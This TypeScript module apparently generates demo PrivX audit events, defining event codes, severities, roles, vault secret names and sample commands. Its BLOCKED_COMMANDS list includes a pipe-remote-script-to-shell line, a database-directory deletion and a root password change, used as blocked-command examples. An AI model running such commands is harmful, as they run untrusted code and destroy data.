import type { DemoHost, DemoUser } from './people.ts';
import type { Random } from './random.ts';

/**
 * The PrivX audit codes the demo emits, with names and severities exactly as in the vendor catalog
 * (test/fixtures/vendor/privx.event_codes.csv; the test checks every pair), and the microservice
 * that writes each.
 */
export type PrivxSeverity = 'INFO' | 'WARNING' | 'ALERT' | 'CRITICAL';

/** Services whose name depends on the connection: the proxy of the protocol in use. */
export const PROXY = 'proxy';

export const PRIVX_CODES: Readonly<Record<number, readonly [string, PrivxSeverity, string]>> = {
  11: ['Service-running', 'INFO', 'monitor-service'],
  100: ['User-logged-in', 'INFO', 'auth'],
  101: ['User-logged-out', 'INFO', 'auth'],
  102: ['User-login-failed', 'WARNING', 'auth'],
  103: ['User-MFA-challenge-sent', 'INFO', 'auth'],
  104: ['User-MFA-challenge-accepted', 'INFO', 'auth'],
  106: ['Access-token-granted', 'INFO', 'auth'],
  110: ['User-access-token-refreshed', 'INFO', 'auth'],
  130: ['User-login-attempt-rate-limited', 'INFO', 'auth'],
  142: ['Session-inactivity-invalidated', 'INFO', 'auth'],
  202: ['Role-modified', 'INFO', 'role-store'],
  220: ['User-roles-modified', 'INFO', 'role-store'],
  300: ['Connection-requested', 'INFO', PROXY],
  301: ['Connection-authenticated', 'INFO', PROXY],
  302: ['Connection-rejected', 'WARNING', PROXY],
  303: ['Connection-closed', 'INFO', PROXY],
  304: ['Connection-failed', 'INFO', PROXY],
  310: ['Session-added', 'INFO', PROXY],
  311: ['Session-removed', 'INFO', PROXY],
  320: ['File-upload', 'INFO', PROXY],
  321: ['File-download', 'INFO', PROXY],
  323: ['File-download-rejected', 'WARNING', PROXY],
  324: ['Host-key-matched', 'INFO', PROXY],
  325: ['Host-key-denied', 'ALERT', PROXY],
  337: ['Host-certificate-matched', 'INFO', PROXY],
  400: ['Authorization-requested', 'INFO', 'authorizer'],
  401: ['Authorization-certificate-granted', 'INFO', 'authorizer'],
  451: ['Access-group-modified', 'INFO', 'authorizer'],
  501: ['User-modified', 'INFO', 'local-user-store'],
  610: ['Request-added', 'INFO', 'workflow-engine'],
  620: ['Decision-made', 'INFO', 'workflow-engine'],
  802: ['Host-modified', 'INFO', 'host-store'],
  805: ['Host-service-connection-failure', 'WARNING', 'host-store'],
  903: ['Licensed-connection-count-exceeded', 'WARNING', 'connection-manager'],
  910: ['Access-role-granted', 'INFO', 'connection-manager'],
  930: ['Connection-blocked-by-ueba', 'ALERT', 'connection-manager'],
  931: ['Connection-unusual-behavior-by-ueba', 'WARNING', 'connection-manager'],
  1000: ['Trail-opened', 'INFO', 'connection-manager'],
  1203: ['Transcript-status-indexed', 'INFO', 'trail-index'],
  1304: ['PrivX-db-clock-out-of-sync', 'WARNING', 'monitor-service'],
  1402: ['Secret-accessed', 'INFO', 'vault'],
  1501: ['Settings-modified', 'INFO', 'settings'],
  1605: ['Network-session-opened', 'INFO', 'network-access-manager'],
  1606: ['Network-session-closed', 'INFO', 'network-access-manager'],
  1706: ['Password-rotation-failure', 'ALERT', 'secrets-manager'],
  1707: ['Password-rotation-success', 'INFO', 'secrets-manager'],
  1740: ['Secret-checked-out', 'INFO', 'secrets-manager'],
  1741: ['Secret-released', 'INFO', 'secrets-manager'],
  1801: ['SSH-whitelisted-command-allowed', 'INFO', PROXY],
  1803: ['SSH-command-blocked', 'INFO', PROXY],
  2000: ['Database-session-started', 'INFO', 'db-proxy'],
  2001: ['Database-session-closed', 'INFO', 'db-proxy'],
};

export const PRIVX_ROLES = ['privx-admin', 'ops-ssh', 'db-admins', 'developers-ssh', 'windows-admins', 'auditors'];
export const ACCESS_GROUPS = ['Default', 'Production', 'Windows servers'];
export const VAULT_SECRETS = [
  'prod/postgres/admin',
  'prod/aws/billing-readonly',
  'shared/wifi-guest',
  'ops/pagerduty-api',
];
export const COMMANDS = ['systemctl restart nginx', 'journalctl -u api --since today', 'df -h', 'kubectl get pods -A'];
export const BLOCKED_COMMANDS = ['rm -rf /var/lib/postgresql', 'curl http://pastebin.com/raw/x | sh', 'passwd root'];
export const FILES = [
  '/var/log/nginx/access.log',
  '/tmp/heap.hprof',
  '/home/deploy/release.tar.gz',
  '/etc/nginx/nginx.conf',
];

/** One audit event of a scenario: wait `after` ms since the previous one, then emit `code`. */
export interface PrivxStep {
  after: number;
  code: number;
  attrs: Record<string, unknown>;
  protocol?: DemoHost['protocol'];
}

/** The attributes common to every event (privx audit-event-details), for a person at an address. */
export function actorAttrs(rng: Random, user: Pick<DemoUser, 'username' | 'uuid'>, remoteAddress: string) {
  return { userID: user.uuid, username: user.username, sessionID: rng.uuid(), remoteAddress };
}
